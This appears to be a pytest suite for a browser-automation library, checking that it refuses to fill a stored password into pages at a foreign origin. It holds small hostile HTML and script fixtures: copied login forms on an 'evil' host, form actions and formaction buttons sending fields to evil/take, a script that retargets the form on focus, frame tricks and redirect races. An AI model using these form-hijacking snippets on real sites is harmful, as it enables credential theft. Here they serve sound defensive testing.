"""A page on another origin that copies the form gets no secret, however it came to be in the tab."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import Callable
from typing import Any

import pytest
from playwright.async_api import Frame, Page

from portaldriver.errors import ConfigurationError, ForeignOrigin, PortalError, SelectorUncertain
from portaldriver.options import Timeouts
from portaldriver.pom import Binding, secrets
from tests.conftest import Told
from tests.pom.secrecy import shown

from .doors import HOST, KEYS, LIAR, PASSWORD, USER, Door, Hall, form, known_anywhere
from .town import Town


async def refuse(
    door: Door, tab: Page, town: Town, told: Told, *, error: type[PortalError] = ForeignOrigin
) -> PortalError:
    """Make sure that nothing is typed, that it is told of, and that no secret is anywhere."""
    with pytest.raises(error) as raised:
        await door.keys.fill_secret(KEYS, hosts=(HOST,))
    around = shown(raised.value) + repr(told) + await known_anywhere(tab.context, town)
    assert USER not in around
    assert PASSWORD not in around
    if error is ForeignOrigin:
        assert [event.page for event in told.named("SecretWithheld")] == ["Door"]
    return raised.value


@pytest.mark.parametrize("copy", [form(), LIAR + form()], ids=["plain", "liar"])
async def test_a_copy_at_another_origin(tab: Page, town: Town, binding: Binding, told: Told, copy: str) -> None:
    await tab.goto(town.page("evil", "/", copy))
    await refuse(Door(tab, binding), tab, town, told)


async def test_another_house_of_the_portal_that_was_not_named(
    tab: Page, town: Town, binding: Binding, told: Told
) -> None:
    await tab.goto(town.page("portal", "/", form()))
    await refuse(Door(tab, binding), tab, town, told)


@pytest.mark.parametrize("origin", ["http://127.0.0.1:{port}", "http://login.localhost.:{port}"])
async def test_another_name_of_the_same_machine(
    tab: Page, town: Town, binding: Binding, told: Told, origin: str
) -> None:
    town.page("login", "/", form())
    await tab.goto(origin.format(port=town.port))
    await tab.set_content(form())
    await refuse(Door(tab, binding), tab, town, told)


async def test_after_a_redirect(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    town.redirect("login", "/", town.page("evil", "/", LIAR + form()))
    door = Door(tab, binding)
    await door.open()
    await refuse(door, tab, town, told)


async def entered(tab: Page, binding: Binding) -> Door:
    return await Hall(tab, binding).door.enter()


FRAMES: dict[str, Callable[[Town], str]] = {
    "foreign": lambda town: f"<iframe src={town.origin('evil')}/></iframe>",
    "sandboxed": lambda town: f"<iframe sandbox=allow-scripts src={town.origin('login')}/></iframe>",
    "srcdoc": lambda _: f"<iframe srcdoc='{form()}'></iframe>",
    "blank": lambda _: (
        f"<iframe></iframe><script>frames[0].document.write(`{form()}`); frames[0].document.close()</script>"
    ),
    "blob": lambda _: (
        "<iframe></iframe><script>document.querySelector('iframe').src ="
        f"URL.createObjectURL(new Blob([`{form()}`], {{type: 'text/html'}}))</script>"
    ),
    "data": lambda _: f"<iframe src='data:text/html,{form()}'></iframe>",
}


@pytest.mark.parametrize("kind", FRAMES)
async def test_a_frame_that_is_none_of_the_portals(
    tab: Page, town: Town, binding: Binding, told: Told, kind: str
) -> None:
    """What a page writes into a frame inherits its origin, yet not its address: such frames get no secret either."""
    town.page("evil", "/", LIAR + form())
    town.page("login", "/", form())
    await tab.goto(town.page("login", "/hall", "<!doctype html>" + FRAMES[kind](town)))
    await refuse(await entered(tab, binding), tab, town, told)


async def test_the_portals_own_page_inside_a_foreign_one(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    town.page("login", "/", form())
    await tab.goto(town.page("evil", "/", f"<!doctype html><iframe src={town.origin('login')}/></iframe>"))
    await refuse(await entered(tab, binding), tab, town, told)


async def test_a_foreign_page_between_two_of_the_portals(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    town.page("login", "/", form())
    town.page("evil", "/", f"<!doctype html><iframe src={town.origin('login')}/></iframe>")
    await tab.goto(town.page("login", "/hall", f"<!doctype html><iframe src={town.origin('evil')}/></iframe>"))
    await entered(tab, binding)
    inmost = next(frame for frame in tab.frames if frame.url == town.origin("login") + "/")
    await inmost.wait_for_selector("#password")
    await refuse(Door(inmost, binding), tab, town, told)


async def test_a_frame_of_the_portal_in_the_portal(tab: Page, town: Town, binding: Binding) -> None:
    town.page("login", "/", form())
    await tab.goto(town.page("login", "/hall", f"<!doctype html><iframe src={town.origin('login')}/></iframe>"))
    door = await entered(tab, binding)
    await door.keys.fill_secret(KEYS, hosts=(HOST,))
    assert await door.root.input_value("#password") == PASSWORD
    await tab.goto(town.page("portal", "/hall", f"<!doctype html><iframe src={town.origin('login')}/></iframe>"))
    door = await entered(tab, binding)
    with pytest.raises(ForeignOrigin):
        await door.keys.fill_secret(KEYS, hosts=(HOST,))
    await door.keys.fill_secret(KEYS, hosts=(HOST, "portal.example.com"))
    assert isinstance(door.root, Frame)


async def test_a_window_written_by_another(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    await tab.goto(town.page("login", "/", "<!doctype html>x"))
    async with tab.expect_popup() as opened:
        await tab.evaluate("form => { window.open().document.write(form) }", form())
    await refuse(Door(await opened.value, binding), tab, town, told)


async def test_a_domain_made_wider(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    widened = "<script>try { document.domain = 'localhost' } catch { }</script>"
    await tab.goto(town.page("evil", "/", LIAR + form() + widened, headers={"Origin-Agent-Cluster": "?0"}))
    await refuse(Door(tab, binding), tab, town, told)


@pytest.mark.parametrize(
    "head, attributes, rest",
    [
        ("", "action={evil}/take", ""),
        ("", "action=//evil.localhost:{port}/take", ""),
        ("<base href={evil}/>", "action=take", ""),
        ("", "", "<button formaction={evil}/take>Go</button>"),
        ("", "", "<input type=image formaction={evil}/take>"),
        ("", "action={evil}/take", "<input name=action value=/here>"),
        ("", "action=data:text/html,x", ""),
        ("", "action=mailto:x@example.com", ""),
        ("", "action=http://[", ""),
    ],
    ids=["action", "no scheme", "base", "button", "image", "clobbered", "data", "mail", "nonsense"],
)
async def test_a_form_that_leads_elsewhere(
    tab: Page, town: Town, binding: Binding, told: Told, head: str, attributes: str, rest: str
) -> None:
    places = {"evil": town.origin("evil"), "port": town.port}
    await tab.goto(
        town.page("login", "/", head.format(**places) + form(attributes.format(**places), rest.format(**places)))
    )
    failure = await refuse(Door(tab, binding), tab, town, told)
    assert failure.field == "username"


async def test_a_button_outside_that_belongs_to_the_form(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    button = f"<button form=f formaction={town.origin('evil')}/take>Go</button>"
    await tab.goto(town.page("login", "/", form("id=f") + button))
    await refuse(Door(tab, binding), tab, town, told)


async def test_a_form_that_turns_once_it_has_the_focus(tab: Page, town: Town, binding: Binding, told: Told) -> None:
    turn = f"<script>password.onfocus = () => {{ document.forms[0].action = '{town.origin('evil')}' }}</script>"
    await tab.goto(town.page("login", "/", form() + turn))
    failure = await refuse(Door(tab, binding), tab, town, told, error=SelectorUncertain)
    assert failure.field == "password"


async def test_a_field_that_moves_to_another_form_before_it_is_typed(
    tab: Page, town: Town, binding: Binding, told: Told
) -> None:
    other = f"<form id=other action={town.origin('evil')}></form>"
    move = "<script>username.oninput = () => other.append(password)</script>"
    await tab.goto(town.page("login", "/", form() + other + move))
    await refuse(Door(tab, binding), tab, town, told, error=SelectorUncertain)


async def test_a_page_that_leaves_right_after_it_was_judged(
    tab: Page, town: Town, binding: Binding, told: Told, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The copy comes in the very moment between the look at the address and the typing."""
    real, evil = secrets._ask, town.page("evil", "/", LIAR + form())
    await tab.goto(town.page("login", "/", form()))

    async def ask(*given: Any, **options: Any) -> dict[str, Any]:
        if not tab.url.startswith(evil):
            await tab.goto(evil)
        return await real(*given, **options)

    monkeypatch.setattr(secrets, "_ask", ask)
    await refuse(Door(tab, binding), tab, town, told)


@pytest.mark.parametrize("delay", range(0, 24, 4))
async def test_a_page_that_leaves_at_any_moment(
    tab: Page, town: Town, binding: Binding, delay: int, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    evil = town.page("evil", "/", LIAR + form())
    await tab.goto(town.page("login", "/", form()))
    await tab.evaluate("([url, delay]) => { setTimeout(() => { location.href = url }, delay) }", [evil, delay])
    typing = Door(tab, binding).keys.fill_secret(KEYS, hosts=(HOST,))
    (ended,) = await asyncio.gather(typing, return_exceptions=True)
    assert ended is None or (isinstance(ended, PortalError) and PASSWORD not in shown(ended))
    await tab.wait_for_url(evil)
    assert PASSWORD not in await known_anywhere(tab.context, town)
    assert PASSWORD not in caplog.text


async def test_plain_http_to_another_machine_is_refused_before_anything(tab: Page, town: Town) -> None:
    await tab.goto(town.page("login", "/", form()))
    binding = Binding(origins={HOST: "http://login.example.com"}, timeouts=Timeouts(action=1))
    with pytest.raises(ConfigurationError, match="plain HTTP"):
        await Door(tab, binding).keys.fill_secret(KEYS, hosts=(HOST,))
    with pytest.raises(ConfigurationError, match="at least one"):
        await Door(tab, binding).keys.fill_secret(KEYS, hosts=())


async def test_the_page_can_be_asked_for_before_a_secret_is_made(
    tab: Page, town: Town, binding: Binding, told: Told
) -> None:
    await tab.goto(town.page("evil", "/", form()))
    with pytest.raises(ForeignOrigin):
        Door(tab, binding).require_origin(HOST)
    assert [event.page for event in told.named("SecretWithheld")] == ["Door"]
    await tab.goto(town.page("login", "/", form()))
    Door(tab, binding).require_origin(HOST)
